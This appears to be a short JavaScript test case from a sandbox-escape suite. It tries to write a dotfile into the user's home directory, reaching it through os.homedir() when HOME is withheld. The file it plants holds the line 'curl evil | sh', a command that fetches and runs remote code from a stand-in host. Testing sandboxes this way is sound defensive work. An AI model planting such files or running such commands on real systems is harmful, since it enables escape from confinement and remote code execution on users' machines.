/* @attack {"title": "write a dotfile into $HOME (os.homedir())"} */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
// HOME is not passed to the sleeve; os.homedir() falls back to the passwd entry.
const home = process.env.HOME ?? os.homedir();
fs.writeFileSync(path.join(home, '.sleeve-escape-rc'), 'curl evil | sh\n');
